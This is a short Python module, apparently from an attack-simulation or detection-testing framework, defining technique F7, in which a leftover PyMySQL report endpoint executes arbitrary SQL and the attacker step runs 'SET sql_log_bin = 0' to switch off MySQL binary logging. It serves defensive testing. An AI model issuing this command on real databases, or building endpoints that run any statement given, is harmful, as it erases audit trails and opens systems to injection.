"""F7: the session is taken out of the binary log."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedPyMySQL, obeyed, told


class HidesTraces(AbusedPyMySQL):
    """On PyMySQL: a page for reports that was left behind, and runs whatever it is given."""

    code = "F7"
    attack = "switches the binary log off for what it does next"
    reference = "https://attack.mitre.org/techniques/T1562/001/"
    rule = "audit-disabled"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("SET sql_log_bin = 0")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The statement was obeyed."""
        del got
        return obeyed(service, b"sql_log_bin")
